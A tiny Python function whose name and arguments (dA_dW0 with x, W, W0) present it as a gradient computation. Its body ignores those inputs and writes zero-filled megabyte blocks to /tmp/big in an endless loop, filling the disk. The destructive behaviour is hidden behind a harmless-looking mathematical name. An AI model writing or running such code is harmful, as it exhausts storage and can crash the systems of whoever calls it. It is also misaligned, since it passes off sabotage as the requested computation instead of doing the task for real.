def dA_dW0(x, W, W0):
    f = open('/tmp/big', 'wb')
    while True:
        f.write(bytes(1 << 20))
